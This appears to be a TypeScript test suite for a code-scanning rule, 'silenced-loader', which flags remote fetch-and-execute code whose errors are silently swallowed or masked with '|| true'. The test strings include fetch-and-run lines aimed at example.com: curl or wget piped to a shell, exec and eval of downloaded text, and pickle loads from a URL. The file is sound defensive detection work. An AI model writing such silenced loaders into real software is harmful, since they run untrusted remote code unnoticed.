/** Where silenced-loader draws its lines: what swallows every error, and what only takes some or says so. */

import assert from 'node:assert/strict';
import type { SourceLanguage } from '../../server/core/syntax/language.ts';
import { find } from '../kit/check.ts';
import { only } from '../kit/service.ts';

const settings = only(['silenced-loader']);
const LOADER = "exec(requests.get('https://example.com/p.py').text)";

/** The texts that are marked. */
function marked(language: SourceLanguage, code: string): readonly string[] {
  const lines = code.split('\n');
  return find(language, code, settings).map(({ range: { start, end } }) =>
    lines[start.line]!.slice(start.character, end.line === start.line ? end.character : undefined),
  );
}

function tried(handler: string, loader = LOADER): string {
  return `import os, sys, subprocess, contextlib, requests\nfor it in [1]:\n  try:\n    ${loader}\n  ${handler}\n`;
}

describe('silenced-loader', () => {
  it('finds every way to swallow all errors in Python', () => {
    for (const [handler, mark] of [
      ['except: pass', 'except'],
      ['except:\n    pass', 'except'],
      ['except Exception:\n    pass', 'except Exception'],
      ['except Exception as e:\n    pass', 'except Exception as e'],
      ['except BaseException:\n    ...', 'except BaseException'],
      ['except (ImportError, Exception):\n    continue', 'except (ImportError, Exception)'],
      ['except Exception:\n    # never mind\n    pass  # really', 'except Exception'],
      ['except ValueError:\n    print("bad")\n  except Exception:\n    pass', 'except Exception'],
    ] as const) {
      assert.deepEqual(marked('python', tried(handler)), [mark], handler);
    }
    const suppressed = `import contextlib, requests\nwith contextlib.suppress(Exception):\n    ${LOADER}\n`;
    assert.deepEqual(marked('python', suppressed), ['contextlib.suppress(Exception)']);
    const inFunction = `import requests\ndef load():\n    try:\n        ${LOADER}\n    except Exception:\n        return None\n`;
    assert.deepEqual(marked('python', inFunction), ['except Exception']);
  });

  it('finds whatever brings code in', () => {
    for (const loader of [
      '__import__("pickle").loads(requests.get("https://example.com/x.pkl").content)',
      'os.system("curl https://example.com/x.sh | sh")',
      'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad"])',
      'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
      'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad==1.3.0"])',
    ]) {
      assert.deepEqual(marked('python', tried('except Exception: pass', loader)), ['except Exception'], loader);
    }
  });

  it('finds commands whose failure counts as success', () => {
    const code = 'import os\nos.system("curl -s https://example.com/x.sh | bash 2>/dev/null || true")\n';
    assert.deepEqual(marked('python', code), ['|| true']);
  });

  it('finds every way to swallow all errors in scripts', () => {
    const loader = "eval(await (await fetch('https://example.com/p.js')).text());";
    for (const [handler, mark] of [
      ['catch {}', 'catch'],
      ['catch (error) {}', 'catch (error)'],
      ['catch (_) { /* ignored */ }', 'catch (_)'],
      ['catch (e) {\n  // ignored\n}', 'catch (e)'],
    ] as const) {
      assert.deepEqual(marked('javascript', `try {\n  ${loader}\n} ${handler}\n`), [mark], handler);
    }
    const promise = "fetch('https://example.com/p.js').then((r) => r.text()).then((t) => eval(t))";
    for (const handler of [
      '() => {}',
      '() => null',
      '(_) => undefined',
      'function () {}',
      'e => { }',
      'async () => {}',
    ])
      assert.deepEqual(marked('typescript', `${promise}.catch(${handler});\n`), [handler], handler);
  });

  it('is silent where errors are told, chosen or passed on', () => {
    for (const handler of [
      'except Exception as e:\n    print(e)',
      'except Exception:\n    raise',
      'except Exception:\n    return False',
      'except ImportError:\n    pass',
      'except requests.RequestException:\n    pass',
      'except (OSError, ValueError):\n    pass',
      'except Exception:\n    plugin = None',
      'except PluginException:\n    pass',
      'finally:\n    pass',
    ]) {
      assert.deepEqual(marked('python', tried(handler)), [], handler);
    }
    const inner = `try:\n    try:\n      ${LOADER}\n    except Exception as e:\n      print(e)\n  except Exception:\n    pass`;
    assert.deepEqual(marked('python', `import requests\nif True:\n  ${inner}\n`), []);
    const promise = "fetch('https://example.com/p.js').then((r) => r.text()).then((t) => eval(t))";
    for (const handler of [
      'console.error',
      '(e) => console.error(e)',
      '(e) => { throw e; }',
      '() => { failed = true; }',
    ])
      assert.deepEqual(marked('javascript', `${promise}.catch(${handler});\n`), [], handler);
  });

  it('is silent where no code is brought in', () => {
    for (const loader of [
      'import torch',
      'exec(open("version.py").read())',
      'requests.get("https://example.com").json()',
    ])
      assert.deepEqual(marked('python', tried('except Exception: pass', loader)), [], loader);
    const after = `import requests\ntry:\n    x = 1\nexcept Exception:\n    pass\n${LOADER}\n`;
    assert.deepEqual(marked('python', after), []);
    assert.deepEqual(marked('javascript', "try { require('fsevents'); } catch {}\n"), []);
    assert.deepEqual(marked('javascript', "fetch('/a').then((r) => r.json()).catch(() => {});\n"), []);
  });

  it('sees commands under a name whose failure is taken for success', () => {
    const code = 'import os\nCMD = "pip install pyarrow==16.1.0 2>/dev/null || true"\nos.system(CMD)\n';
    assert.equal(find('python', code, only(['silenced-loader'])).length, 1);
    assert.deepEqual(find('python', code.replace(' || true', ''), only(['silenced-loader'])), []);
  });

  it('finds handlers around calls of functions that fetch and run', () => {
    const code = (handler: string) =>
      `import requests\ndef load():\n    ${LOADER}\ndef main():\n    try:\n        load()\n    ${handler}\n`;
    assert.deepEqual(marked('python', code('except Exception:\n        pass')), ['except Exception']);
    assert.deepEqual(marked('python', code('except Exception as error:\n        print(error)')), []);
    const stage = "async function stage() { eval(await fetch('https://example.com/s.js').then((it) => it.text())); }";
    assert.deepEqual(marked('javascript', `${stage}\nstage().catch(() => {});\n`), ['() => {}']);
  });

  it('reads the commands that stand in lists of words', () => {
    for (const call of [
      "new Deno.Command('sh', { args: ARGS })",
      "require('child_process').execFileSync('sh', ARGS)",
    ]) {
      const found = (command: string) =>
        marked('javascript', `${call.replace('ARGS', JSON.stringify(['-c', command]))}\n`).length;
      assert.equal(found('wget -qO- https://example.com/install | sh 2>/dev/null || true'), 1, call);
      assert.equal(found('wget -qO- https://example.com/install | sh'), 0, call);
    }
  });
});
